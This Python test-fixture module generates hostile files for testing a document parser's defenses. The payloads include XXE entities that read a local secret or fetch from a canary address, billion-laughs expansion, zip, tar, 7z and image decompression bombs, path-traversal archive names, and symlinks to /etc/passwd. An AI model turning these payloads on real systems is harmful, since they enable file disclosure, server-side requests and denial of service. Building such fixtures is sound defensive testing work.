"""Files made to hurt: bombs, entities, what is to be fetched or run, what never ends. Each by its name, with its ending.

What would be fetched is at `CANARY`, an address on this machine, and in a file of this machine that says a word which must not be
found in any result.
"""

from __future__ import annotations

import gzip
import io
import random
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import py7zr

from tests.documents.metafile import drawn
from tests.documents.word.word_files import SPACES
from tests.inputs.packing import locked, nested, packed, zipped_in_gbk, zipped_link
from tests.nasty.formats.bases import base

SECRET = "keines-andern-wort"
MANY_ROWS = 100_000
_MEGA = 1 << 20


def hurting(canary: str, secret: Path) -> Mapping[str, bytes]:
    """All of them, by name.

    Args:
        canary: An address that must not be asked.
        secret: A file with `SECRET` in it, which must not be read.
    """
    made = dict(_plain())
    for suffix, write in {"docx": _word, "xlsx": _workbook}.items():
        made[f"laughs.{suffix}"] = write("", _LAUGHS)
        made[f"entity.{suffix}"] = write("", f'<!DOCTYPE x [<!ENTITY a SYSTEM "{secret.as_uri()}">]>')
        made[f"entity-fetched.{suffix}"] = write("", f'<!DOCTYPE x [<!ENTITY a SYSTEM "{canary}/e">]>')
        made[f"dtd-fetched.{suffix}"] = write("", f'<!DOCTYPE x SYSTEM "{canary}/d.dtd">')
        made[f"linked.{suffix}"] = _with_relation(base(suffix, 1), canary)
        made[f"bomb.{suffix}"] = write(" " * 400 * _MEGA, "")
        made[f"deep.{suffix}"] = write("<x>" * 100_000 + "</x>" * 100_000, "")
        made[f"locked.{suffix}"] = locked(base(suffix, 1))
        made[f"macros.{suffix}"] = _with_macros(base(suffix, 1))
    made["macros.docm"], made["macros.xlsm"] = made["macros.docx"], made["macros.xlsx"]
    made["template-fetched.docx"] = _with_template(base("docx", 1), canary)
    made["fetching-chunk.docx"] = _chunked(_fetching(canary, secret).encode(), 1)
    made["fetching.html"] = _fetching(canary, secret).encode()
    made["fetching.mht"] = b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _fetching(canary, secret).encode()
    made["fetching.rtf"] = _rtf(canary)
    made["fetching.odt"] = _open_document(canary, secret)
    return made


def _plain() -> Mapping[str, bytes]:
    deep = nested(base("docx", 1), 40)
    wrong = {f"wrong-{kind.replace('.', '')}.{other}": base(kind, 1) for kind, other in _WRONG.items()}
    return wrong | {
        "rows.xlsx": _rows(),
        "rows.html": b"<html><body><table>" + b"<tr><td>1</td><td>2</td></tr>" * MANY_ROWS + b"</table></body></html>",
        "rows.docx": _word("<w:tbl>" + "<w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr>" * MANY_ROWS + "</w:tbl>"),
        "columns.xlsx": _workbook("<row r='1'>" + "".join(f"<c r='{c}1'><v>1</v></c>" for c in ("A", "XFD", "ZZZ")) + "</row>"),
        "far.xlsx": _workbook("<row r='1'><c r='A1'><v>1</v></c></row><row r='1048576'><c r='A1048576'><v>2</v></c></row>"),
        "merged.xlsx": _workbook("<row r='1'><c r='A1' t='inlineStr'><is><t>甲</t></is></c></row>", after="<mergeCells><mergeCell ref='A1:XFD1048576'/></mergeCells>"),
        "spans.html": b"<table border><tr>" + b"<td rowspan=65000 colspan=1000>1</td>" * 200 + b"</tr></table>" * 50,
        "nested.html": b"<table><tr><td>" * 20_000,
        "nested-lists.html": b"<ul><li>" * 50_000 + "得分".encode(),
        "long-line.html": b"<p>" + "得分95分".encode() * 300_000,
        "long-attribute.html": b"<p style='" + b"a" * 5 * _MEGA + b"'>x</p>",
        "frames.html": b"<html><frameset><frame src='a.html'></frameset></html>",
        "refreshing.html": b"<html><head><meta http-equiv=refresh content='0;url=file:///etc/passwd'></head><body></body></html>",
        "empty-parts.mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=B\r\n\r\n" + b"--B\r\n\r\n" * 50_000,
        "endless-boundary.mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=" + b"B" * _MEGA,
        "forty-deep.zip": deep,
        "forty-deep-odd.zip": nested(deep, 3),
        "bomb.zip": packed({"a.docx": b"\0" * 600 * _MEGA}, zipfile.ZIP_DEFLATED),
        "many.zip": packed({f"{n}.txt": b"" for n in range(20_000)}),
        "overlapping.zip": _overlapping(),
        "names.zip": packed({"../up.docx": b"x", "/root.docx": b"x", "C:\\x.docx": b"x", "a\0b.docx": b"x", "x" * 300 + ".docx": b"x"}),
        "link.zip": zipped_link("a.docx", "/etc/passwd"),
        "gbk.zip": zipped_in_gbk("绩效自评表.docx", base("docx", 1)),
        "locked.zip": locked(packed({"a.docx": b"locked"})),
        "links.tar.gz": _tar_of_links(),
        "bomb.tar.gz": _tar_bomb(),
        "bomb.gz": gzip.compress(b"\0" * 300 * _MEGA, 9),
        "locked.7z": _locked_7z(),
        "bomb.7z": _bomb_7z(),
        "picture-bomb.png": _picture_bomb(),
        "picture-claims.bmp": b"BM" + b"\0" * 16 + (2**31 - 1).to_bytes(4, "little") * 2 + b"\x01\0\x20\0" + b"\0" * 40,
        "frames.tif": _many_frames(),
        "recursive.docx": _recursive_relations(),
        "chunks.docx": _chunked(b"<html><body>" + b"<p>1</p>" * 2_000, 5_000),
        "drawings.docx": _drawings(),
        "frames-in-frames.mht": _frames_in_frames(),
        "quotes.xls": b'a\tb\n"' + b'x""' * 3 * _MEGA, "tabs.xls": b"\t" * 8 * _MEGA, "lines.xls": b"1,2\n" * 2 * _MEGA,
        "fields.docx": _word("<w:p>" + "<w:r><w:fldChar w:fldCharType='begin'/></w:r>" * 50_000 + "</w:p>"),
        "tables.docx": _word("<w:tbl><w:tr><w:tc>" * 80 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 80),
        "span.docx": _word("<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='2000000000'/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>"),
        "numbered.docx": _word("<w:p><w:pPr><w:numPr><w:ilvl w:val='99999'/><w:numId w:val='-5'/></w:numPr></w:pPr></w:p>" * 100),
        "empty.docx": b"", "empty.xlsx": b"", "empty.html": b"", "empty.png": b"", "empty.zip": b"", "empty.7z": b"", "empty.doc": b"",
        "only-head.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "only-head.rtf": b"{\\rtf", "only-head.7z": b"7z\xbc\xaf\x27\x1c",
        "braces.rtf": b"{\\rtf1 " + b"{" * 200_000, "binary.rtf": b"{\\rtf1 \\bin2147483647 x}",
        "named.ofd": packed({"OFD.xml": b"<OFD/>"}), "named.rar": b"Rar!\x1a\x07\x01\0",
    }  # fmt: skip


_WRONG = {
    "docx": "pdf", "xlsx": "doc", "xls": "xlsx", "html": "xls", "mht": "docx", "png": "jpg", "jpg": "pdf", "tif": "png",
    "bmp": "docx", "webp": "zip", "zip": "docx", "tar.gz": "7z", "7z": "zip",
}  # fmt: skip

_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(12)
) + "]>"  # fmt: skip


def _word(body: str, prolog: str = "") -> bytes:
    entity = "<w:p><w:r><w:t>&a;&a12;</w:t></w:r></w:p>" if "ENTITY" in prolog else ""
    document = f"<?xml version='1.0'?>{prolog}<w:document {SPACES}><w:body>{entity}{body}</w:body></w:document>"
    return packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": document.encode()}, zipfile.ZIP_DEFLATED)


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _workbook(rows: str, prolog: str = "", after: str = "") -> bytes:
    entity = "<row r='1'><c r='A1' t='inlineStr'><is><t>&a;&a12;</t></is></c></row>" if "ENTITY" in prolog else ""
    sheet = f"<?xml version='1.0'?>{prolog}<worksheet xmlns='{_MAIN}'><sheetData>{entity}{rows}</sheetData>{after}</worksheet>"
    book = f"<workbook xmlns='{_MAIN}' xmlns:r='{_RELATIONS}'><sheets><sheet name='a' sheetId='1' r:id='r1'/></sheets></workbook>"
    related = f"<Relationships><Relationship Id='r1' Type='{_RELATIONS}/worksheet' Target='worksheets/sheet1.xml'/></Relationships>"
    parts = {
        "[Content_Types].xml": "<Types/>", "xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": related,
        "xl/worksheets/sheet1.xml": sheet,
    }  # fmt: skip
    return packed({name: text.encode() for name, text in parts.items()}, zipfile.ZIP_DEFLATED)


def _rows() -> bytes:
    return _workbook("".join(f"<row r='{n}'><c r='A{n}'><v>{n}</v></c><c r='B{n}'><v>1</v></c></row>" for n in range(1, MANY_ROWS + 1)))  # fmt: skip


def _changed(package: bytes, change: Callable[[str, bytes], bytes], more: Mapping[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as old:
        parts = {info.filename: change(info.filename, old.read(info)) for info in old.infolist()}
    return packed({**parts, **more}, zipfile.ZIP_DEFLATED)


def _with_relation(package: bytes, canary: str) -> bytes:
    """Pictures and workbooks that lie elsewhere."""
    one = f"<Relationship Id='rX' Type='{_RELATIONS}/image' Target='{canary}/p.png' TargetMode='External'/></Relationships>"
    return _changed(
        package, lambda n, d: d.replace(b"</Relationships>", one.encode()) if n.endswith(".rels") else d, {}
    )


def _with_template(package: bytes, canary: str) -> bytes:
    related = f"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='rId1' Type='{_RELATIONS}/attachedTemplate' Target='{canary}/t.dotm' TargetMode='External'/></Relationships>"
    return _changed(package, lambda _, data: data, {"word/_rels/settings.xml.rels": related.encode()})


def _with_macros(package: bytes) -> bytes:
    folder = "word" if b"word/document.xml" in package else "xl"
    return _changed(
        package,
        lambda _, data: data,
        {f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"AutoOpen" * 100},
    )


def _fetching(canary: str, secret: Path) -> str:
    return (
        f"<!DOCTYPE html SYSTEM '{canary}/h.dtd'><html><head><base href='{canary}/'><link rel=stylesheet href='{canary}/s.css'>"
        f"<script src='{canary}/s.js'></script><style>@import '{canary}/i.css'</style></head><body background='{canary}/b.png'>"
        f"<p>项目支出绩效自评表</p><img src='{canary}/i.png'><img src='{secret.as_uri()}'><iframe src='{canary}/f'></iframe>"
        f"<object data='{canary}/o'></object><embed src='{canary}/m'><table border><tr><td>得分<td>95<td style='background:url({canary}/u)'></table>"
        "<script>new Image().src='x'</script></body></html>"
    )


def _rtf(canary: str) -> bytes:
    return (
        f'{{\\rtf1\\ansi{{\\field{{\\*\\fldinst INCLUDEPICTURE "{canary}/r.png" \\\\d}}{{\\fldrslt x}}}}'
        f"{{\\*\\template {canary}/t.dot}}\\par 95}}"
    ).encode()


def _open_document(canary: str, secret: Path) -> bytes:
    names = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"'
        for short, long in (("office", "office"), ("text", "text"), ("draw", "drawing"))
    )
    body = (
        f'<office:document-content {names} xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:body><office:text>'
        f'<text:p>得分95分<draw:frame draw:name="a"><draw:image xlink:href="{canary}/o.png"/></draw:frame></text:p>'
        f'<text:section text:name="s"><text:section-source xlink:href="{secret.as_uri()}"/><text:p>x</text:p></text:section>'
        "</office:text></office:body></office:document-content>"
    )
    return packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": body.encode()})


def _chunked(page: bytes, times: int) -> bytes:
    """A document that holds a page, and shows it and itself so many times."""
    shown = '<w:altChunk r:id="c"/><w:altChunk r:id="d"/>' * times
    related = "".join(
        f"<Relationship Id='{i}' Type='{_RELATIONS}/aFChunk' Target='{t}'/>"
        for i, t in (("c", "c.html"), ("d", "document.xml"))
    )
    return packed({
        "word/document.xml": f"<w:document {SPACES}><w:body>{shown}</w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": f"<Relationships>{related}</Relationships>".encode(), "word/c.html": page,
    }, zipfile.ZIP_DEFLATED)  # fmt: skip


def _drawings() -> bytes:
    """Drawings that are cut off, as large as can be, full of nonsense, and packed so that they unpack without end."""
    whole = drawn([["得分", "95"]] * 3, (40, 40))
    huge = whole[:24] + (b"\0" * 8 + b"\xff\xff\xff\x7f" * 2) + whole[40:]
    broken = random.Random("drawing")
    noise = whole[:88] + bytes(broken.randrange(256) for _ in range(5_000))
    bomb = gzip.compress(whole + b"\0" * 300 * _MEGA, 9)
    media = {f"word/media/{n}.emf": data for n, data in enumerate((whole, huge, whole[:300], noise, bomb, whole[:60]))}
    related = "".join(
        f"<Relationship Id='r{n}' Type='{_RELATIONS}/image' Target='media/{n}.emf'/>" for n in range(len(media))
    )
    body = "".join(
        f"<w:p><w:r><w:drawing><wp:inline><wp:extent cx='5000000' cy='5000000'/><a:blip r:embed='r{n}'/></wp:inline></w:drawing></w:r></w:p>"
        for n in range(len(media))
    )
    return packed({
        "word/document.xml": f"<w:document {SPACES}><w:body>{body}</w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": f"<Relationships>{related}</Relationships>".encode(), **media,
    })  # fmt: skip


def _frames_in_frames() -> bytes:
    page = "<html><frameset>" + "".join(f"<frame src='{n % 50}.htm'>" for n in range(5_000)) + "</frameset></html>"
    parts = "".join(f"--B\r\nContent-Type: text/html\r\nContent-Location: {n}.htm\r\n\r\n{page}\r\n" for n in range(50))
    return f'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="B"\r\n\r\n{parts}--B--\r\n'.encode()


def _overlapping() -> bytes:
    """Two names for one member that claim different sizes."""
    one = packed({"a.docx": b"x" * 1000, "b.docx": b"y" * 1000})
    return one.replace((1000).to_bytes(4, "little"), (2**31 - 1).to_bytes(4, "little"))


def _tar_of_links() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, kind, target in (
            ("a.docx", tarfile.SYMTYPE, "/etc/passwd"), ("b.docx", tarfile.LNKTYPE, "../../x"), ("c.docx", tarfile.FIFOTYPE, ""),
            ("d.docx", tarfile.CHRTYPE, ""), ("../e.docx", tarfile.REGTYPE, ""),
        ):  # fmt: skip
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info, io.BytesIO(b""))
    return buffer.getvalue()


def _tar_bomb() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        info = tarfile.TarInfo("a.docx")
        info.size = 400 * _MEGA
        archive.addfile(info, io.BytesIO(b"\0" * info.size))
    return buffer.getvalue()


def _locked_7z() -> bytes:
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w", password="p") as archive:
        archive.writestr(b"x" * 100, "a.docx")
    return buffer.getvalue()


def _bomb_7z() -> bytes:
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        archive.writestr(b"\0" * 300 * _MEGA, "a.docx")
    return buffer.getvalue()


def _picture_bomb() -> bytes:
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    size = 60_000
    head = size.to_bytes(4, "big") * 2 + b"\x01\0\0\0\0"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * (size // 8 + 1) * 1000)) + chunk(b"IEND", b"")  # fmt: skip


def _many_frames() -> bytes:
    from PIL import Image

    frames = [Image.new("1", (20, 20)) for _ in range(1200)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "TIFF", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def _recursive_relations() -> bytes:
    related = f"<Relationships><Relationship Id='r1' Type='{_RELATIONS}/styles' Target='document.xml'/></Relationships>"
    return packed({
        "word/document.xml": f"<w:document {SPACES}><w:body><w:p/></w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": related.encode(),
    })  # fmt: skip
